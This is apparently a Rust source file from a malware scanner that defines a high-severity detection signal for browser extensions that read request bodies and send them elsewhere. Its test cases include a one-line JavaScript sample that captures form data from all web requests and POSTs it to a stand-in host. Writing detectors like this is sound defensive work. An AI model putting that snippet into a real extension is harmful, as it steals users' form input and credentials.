//! `extension-bodies-taken`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-bodies-taken",
    description: "The extension reads the contents of web requests and sends data to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ExtensionApi]),
        one(&[Atom::RequestBody]),
        one(&[Atom::SentAbroad, Atom::PostMethod]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.webRequest.onBeforeRequest.addListener(d=>{fetch('https://c.example/r',{method:'POST',body:JSON.stringify(d.requestBody.formData)})},{urls:['<all_urls>']},['requestBody'])",
        ],
        without: &[
            "chrome.webRequest.onBeforeRequest.addListener(d=>({cancel:ads.has(d.url)}),{urls:['<all_urls>']},['blocking'])",
        ],
    },
};
